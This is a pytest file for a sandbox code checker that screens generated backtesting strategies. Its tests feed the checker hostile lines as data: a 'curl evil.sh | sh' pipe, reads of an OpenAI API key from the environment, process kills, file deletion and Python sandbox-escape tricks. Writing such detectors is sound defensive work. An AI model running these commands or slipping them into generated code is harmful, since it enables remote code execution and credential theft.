"""detect_mode, strategy_classes and check_code on real-looking generated code and on hostile code."""

from __future__ import annotations

import textwrap

import pytest

from rbi.prepare.inspect_code import ALLOWED_MODULES, Violation, check_code, detect_mode, strategy_classes

CLASS_MODE = textwrap.dedent(
    """\
    import numpy as np
    import pandas as pd
    import talib
    from backtesting import Strategy
    from backtesting.lib import crossover


    class BollingerRsiReversion(Strategy):
        bb_period = 20
        rsi_period = 14
        rsi_oversold = 30
        risk_fraction = 0.95

        def init(self):
            close = self.data.Close
            self.upper, self.middle, self.lower = self.I(talib.BBANDS, close, self.bb_period, 2, 2)
            self.rsi = self.I(talib.RSI, close, self.rsi_period)

        def next(self):
            price = self.data.Close[-1]
            if not self.position and price < self.lower[-1] and self.rsi[-1] < self.rsi_oversold:
                self.buy(size=self.risk_fraction, sl=price * 0.97)
            elif self.position and crossover(self.data.Close, self.middle):
                self.position.close()
                print(f"🌙 closed at {price:.2f} ({self.__class__.__name__})")
    """
)

SCRIPT_MODE = textwrap.dedent(
    """\
    import os
    import sys
    import warnings

    import pandas as pd
    import pandas_ta as ta
    from backtesting import Backtest, Strategy
    from backtesting.lib import crossover

    warnings.filterwarnings("ignore")
    DATA_PATH = os.path.join("/Users/someone/src/data/rbi", "BTC-USD-15m.csv")


    def load_data(path):
        if not os.path.exists(path):
            print(f"missing {path}", file=sys.stderr)
            sys.exit(1)
        df = pd.read_csv(path)
        df.columns = [c.strip().capitalize() for c in df.columns]
        df = df.drop(columns=[c for c in df.columns if "Unnamed" in c])
        df["Datetime"] = pd.to_datetime(df["Datetime"])
        return df.set_index("Datetime")


    class EmaCross(Strategy):
        fast = 9
        slow = 21

        def init(self):
            self.ema_fast = self.I(lambda s: ta.ema(pd.Series(s), self.fast).values, self.data.Close)
            self.ema_slow = self.I(lambda s: ta.ema(pd.Series(s), self.slow).values, self.data.Close)

        def next(self):
            if crossover(self.ema_fast, self.ema_slow):
                self.buy(size=0.5)
            elif crossover(self.ema_slow, self.ema_fast):
                self.position.close()


    def main():
        data = load_data(DATA_PATH)
        with open(os.path.join(os.path.dirname(__file__), "notes.txt")) as handle:
            print(handle.read()[:80])
        bt = Backtest(data, EmaCross, cash=1_000_000, commission=0.002)
        stats = bt.run()
        print(stats)
        print(stats._strategy)
        stats = bt.optimize(fast=range(5, 15), slow=range(20, 40, 5), maximize="Sharpe Ratio")
        print(stats)


    if __name__ == "__main__":
        main()
    """
)


# --------------------------------------------------------------------------- mode and classes


def test_class_mode() -> None:
    assert detect_mode(CLASS_MODE) == "class"
    assert strategy_classes(CLASS_MODE) == ["BollingerRsiReversion"]


def test_script_mode_through_main() -> None:
    assert detect_mode(SCRIPT_MODE) == "script"
    assert strategy_classes(SCRIPT_MODE) == ["EmaCross"]


def test_script_mode_at_top_level() -> None:
    script = (
        CLASS_MODE + "\nfrom backtesting import Backtest\nprint(Backtest(df, BollingerRsiReversion).run())\n"
    )
    assert detect_mode(script) == "script"


def test_backtest_in_an_uncalled_helper_is_class_mode() -> None:
    helper = CLASS_MODE + textwrap.dedent(
        """
        def run_backtest(data):
            return Backtest(data, BollingerRsiReversion).run()
        """
    )
    assert detect_mode(helper) == "class"
    assert detect_mode(helper + "\nprint(run_backtest(df))\n") == "script"


def test_script_without_a_strategy_class_is_script() -> None:
    code = "from backtesting import Backtest\nfrom mystrats import S\nprint(Backtest(df, S).run())\n"
    assert detect_mode(code) == "script"
    assert strategy_classes(code) == []


def test_unparsable_code_falls_back_to_text() -> None:
    assert detect_mode("bt = Backtest(df, S\nstats = bt.run()\n") == "script"
    assert detect_mode("class S(Strategy)\n    pass\n") == "class"


def test_strategy_classes_through_bases() -> None:
    code = textwrap.dedent(
        """\
        import backtesting
        from backtesting.lib import SignalStrategy, TrailingStrategy

        class Child(Base):
            pass

        class Base(backtesting.Strategy):
            pass

        class Signals(SignalStrategy):
            pass

        class Trailing(TrailingStrategy):
            pass

        class GrandChild(Child):
            pass

        class Helper:
            pass
        """
    )
    assert strategy_classes(code) == ["Child", "Base", "Signals", "Trailing", "GrandChild"]
    assert strategy_classes("class S(Strategy)\n") == []


# --------------------------------------------------------------------------- clean code passes


@pytest.mark.parametrize("code", [CLASS_MODE, SCRIPT_MODE], ids=["class", "script"])
def test_real_looking_strategies_pass(code: str) -> None:
    assert check_code(code) == []


def test_reading_files_is_allowed() -> None:
    code = textwrap.dedent(
        """\
        from pathlib import Path
        text = open("a.csv").read()
        raw = open("a.csv", "rb").read()
        more = open("a.csv", mode="rt").read()
        with Path("a.csv").open("r") as handle:
            handle.read()
        Path("a.csv").read_text()
        """
    )
    assert check_code(code) == []


def test_not_installed_but_allowed_modules_pass() -> None:
    assert (
        check_code("import sklearn.ensemble\nfrom ta.trend import ema_indicator\nimport scipy.stats\n") == []
    )


# --------------------------------------------------------------------------- hostile code

HEADER = "import numpy as np\nimport os\nimport sys\nfrom backtesting import Strategy\n"
HOSTILE_LINE = HEADER.count("\n") + 1


@pytest.mark.parametrize(
    ("line", "rule", "fragment"),
    [
        ("import subprocess", "import", "import of 'subprocess' is not allowed"),
        ("import socket as s", "import", "'socket'"),
        ("from ctypes import CDLL", "import", "'ctypes'"),
        ("import multiprocessing.pool", "import", "'multiprocessing'"),
        ("import urllib.request", "import", "'urllib'"),
        ("import requests", "import", "'requests'"),
        ("import shutil", "import", "'shutil'"),
        ("import importlib", "import", "'importlib'"),
        ("import pickle", "import", "'pickle'"),
        ("import builtins", "import", "'builtins'"),
        ("import asyncio", "import", "'asyncio'"),
        ("from . import helpers", "import", "relative imports"),
        ("exec('print(1)')", "builtin", "use of 'exec'"),
        ("x = eval('1+1')", "builtin", "use of 'eval'"),
        ("code = compile('1', 'f', 'eval')", "builtin", "use of 'compile'"),
        ("m = __import__('subprocess')", "builtin", "use of '__import__'"),
        ("breakpoint()", "builtin", "use of 'breakpoint'"),
        ("answer = input('size? ')", "builtin", "use of 'input'"),
        ("globals()['Strategy'] = object", "builtin", "use of 'globals'"),
        ("vars()['x'] = 1", "builtin", "writing to vars()"),
        ("f = getattr(np, '__loader__')", "dunder", "getattr() with '__loader__'"),
        ("setattr(Strategy, '__init__', None)", "dunder", "setattr() with '__init__'"),
        ("subs = ().__class__.__bases__[0].__subclasses__()", "dunder", "'.__subclasses__'"),
        ("g = np.load.__globals__", "dunder", "'.__globals__'"),
        ("b = __builtins__", "dunder", "'__builtins__'"),
        ("c = (lambda: 0).__code__", "dunder", "'.__code__'"),
        ("m = int.__mro__", "dunder", "'.__mro__'"),
        ("ga = object.__getattribute__", "dunder", "'.__getattribute__'"),
        ("import operator; f = operator.attrgetter('__globals__')", "dunder", "'__globals__'"),
        ("os.system('curl evil.sh | sh')", "os", "os.system is not allowed"),
        ("os.popen('id')", "os", "os.popen"),
        ("os.execv('/bin/sh', ['sh'])", "os", "os.execv"),
        ("os.spawnl(os.P_WAIT, '/bin/sh')", "os", "os.spawnl"),
        ("pid = os.fork()", "os", "os.fork"),
        ("os.kill(1, 9)", "os", "os.kill"),
        ("os.killpg(0, 9)", "os", "os.killpg"),
        ("os.setsid()", "os", "os.setsid"),
        ("os.remove('data.csv')", "os", "os.remove"),
        ("os.unlink('data.csv')", "os", "os.unlink"),
        ("os.rmdir('/tmp/x')", "os", "os.rmdir"),
        ("os.chmod('x', 0o777)", "os", "os.chmod"),
        ("os.putenv('A', 'B')", "os", "os.putenv"),
        ("key = os.environ['OPENAI_API_KEY']", "os", "os.environ"),
        ("key = os.getenv('OPENAI_API_KEY')", "os", "os.getenv"),
        ("run = getattr(os, 'system')", "os", "getattr(os, 'system')"),
        ("from os import system", "os", "'from os import system'"),
        ("sys.modules['os'] = None", "sys", "sys.modules"),
        ("sys.modules.pop('backtesting')", "sys", "sys.modules"),
        ("sp = sys.modules['subprocess']", "sys", "sys.modules"),
        ("sys.stdout = None", "sys", "assigning sys.stdout"),
        ("sys.settrace(None)", "sys", "sys.settrace"),
        ("frame = sys._getframe()", "sys", "sys._getframe"),
        ("open('x', MODE)", "file-write", "computed mode"),
        ("from pathlib import Path; Path('x').unlink()", "file-write", ".unlink()"),
        ("import pandas as pd; df = pd.read_pickle('x.pkl')", "pickle", ".read_pickle"),
        ("arr = np.load('x.npy', allow_pickle=True)", "pickle", "allow_pickle=True"),
        ("lib = np.ctypeslib.load_library('libc', '.')", "pickle", ".ctypeslib"),
    ],
)
def test_hostile_pattern_is_flagged_on_its_line(line: str, rule: str, fragment: str) -> None:
    code = HEADER + line + "\n\nclass S(Strategy):\n    def init(self):\n        pass\n"
    violations = check_code(code)
    matching = [v for v in violations if v.rule == rule and fragment in v.message]
    assert matching, violations
    assert all(v.line == HOSTILE_LINE for v in violations), violations
    assert matching[0].message.startswith(f"line {HOSTILE_LINE}: ")


@pytest.mark.parametrize(
    "line",
    [
        "open('/Users/me/results/log.txt', 'w').write('x')",
        "open('log.txt', mode='a')",
        "from pathlib import Path; Path('stats.txt').write_text('y')",
        "from pathlib import Path; Path('trades.csv').open('wb')",
    ],
)
def test_plain_writes_are_left_to_the_sandbox(line: str) -> None:
    # Scripts save their stats and plots; the writes land in the sandbox's capped scratch.
    code = HEADER + line + "\n\nclass S(Strategy):\n    def init(self):\n        pass\n"
    assert [v for v in check_code(code) if v.rule == "file-write"] == []


def test_import_message_lists_what_is_allowed() -> None:
    (violation,) = check_code("import numpy\n\nimport subprocess\n")
    assert violation == Violation(line=3, message=violation.message, rule="import")
    assert violation.message.startswith(
        "line 3: import of 'subprocess' is not allowed (backtests may import: "
    )
    for module in ("backtesting", "pandas", "talib", "numpy"):
        assert module in violation.message
    assert "subprocess" not in ALLOWED_MODULES


def test_hostile_code_inside_a_strategy_method() -> None:
    code = CLASS_MODE.replace(
        "        close = self.data.Close\n",
        "        close = self.data.Close\n        __import__('os').system('id')\n",
    )
    expected_line = code.splitlines().index("        __import__('os').system('id')") + 1
    violations = check_code(code)
    assert [v.line for v in violations] == [expected_line]
    assert violations[0].rule == "builtin"


def test_aliased_os_is_still_checked() -> None:
    violations = check_code("import os as o\no.system('id')\nimport os.path\nos.remove('x')\n")
    assert [(v.line, v.rule) for v in violations] == [(2, "os"), (4, "os")]


def test_several_violations_come_back_in_line_order() -> None:
    code = "import socket\nx = 1\neval('2')\nimport subprocess\n"
    assert [(v.line, v.rule) for v in check_code(code)] == [(1, "import"), (3, "builtin"), (4, "import")]


def test_user_defined_names_shadowing_builtins_are_not_flagged() -> None:
    code = "def input(n):\n    return n\n\nsize = input(3)\n"
    assert check_code(code) == []


def test_syntax_error_is_one_violation_with_its_line() -> None:
    code = CLASS_MODE.replace("def next(self):", "def next(self)")
    broken_line = code.splitlines().index("    def next(self)") + 1
    violations = check_code(code + "\nimport subprocess\n")
    assert len(violations) == 1
    assert violations[0].rule == "syntax"
    assert violations[0].line == broken_line
    assert violations[0].message.startswith(f"line {broken_line}: syntax error")


def test_null_bytes_are_a_syntax_violation() -> None:
    (violation,) = check_code("x = 1\x00\n")
    assert violation.rule == "syntax"
